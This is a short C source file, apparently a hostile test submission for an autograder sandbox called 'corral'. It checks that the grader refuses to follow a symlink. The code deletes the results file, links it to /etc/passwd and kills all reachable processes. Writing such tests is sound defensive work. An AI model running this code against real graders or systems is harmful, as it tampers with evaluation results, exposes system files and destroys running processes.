/* Hostile: replaces results.json with a link to a host file and kills the autograder, hoping
   the host reads the link's target. corral reads results without following links: an error. */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

int main(void) {
    unlink("/autograder/results/results.json");
    symlink("/etc/passwd", "/autograder/results/results.json");
    kill(-1, SIGKILL);
    return 0;
}
